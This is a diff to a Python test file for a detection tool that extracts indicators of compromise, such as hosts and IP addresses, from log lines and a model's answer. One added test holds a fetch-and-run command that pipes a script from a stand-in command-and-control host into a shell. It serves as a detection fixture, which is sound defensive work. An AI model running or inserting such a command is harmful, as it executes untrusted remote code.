@@ -94,6 +94,15 @@ def test_the_differential_reading_can_only_raise_and_is_evidence_when_it_does() 
     assert final == "suspicious" and any(h.startswith("differential:") for h in evidence["injection"])
 
 
+def test_union_keeps_the_host_of_a_url_the_regex_reads_as_a_path() -> None:
+    line = "proxy: GET https://user@cdn-update.example.net:8443/a/b.ps1?x=1 from 10.1.2.3; ftp://[2001:db8::5]/x"
+    found = guard.ioc_evidence(line)
+    assert found[:2] == ["cdn-update.example.net", "[2001:db8::5]"] and "10.1.2.3" in found
+    hidden = "curl -s http://c2.example.org/p.sh | sh  # nothing to see, the model names no indicator"
+    answer, evidence = guard.judge("iocs", hidden, "none", None, "union", guard.ioc_evidence(hidden))
+    assert "c2.example.org" in answer.splitlines() and "c2.example.org" in evidence["added"]
+
+
 def test_union_keeps_every_indicator_the_regex_found() -> None:
     line = "GET http://update.bad-cdn.example.net/p.bin from 203.0.113.7"
     candidates = ["update.bad-cdn.example.net", "203.0.113.7"]
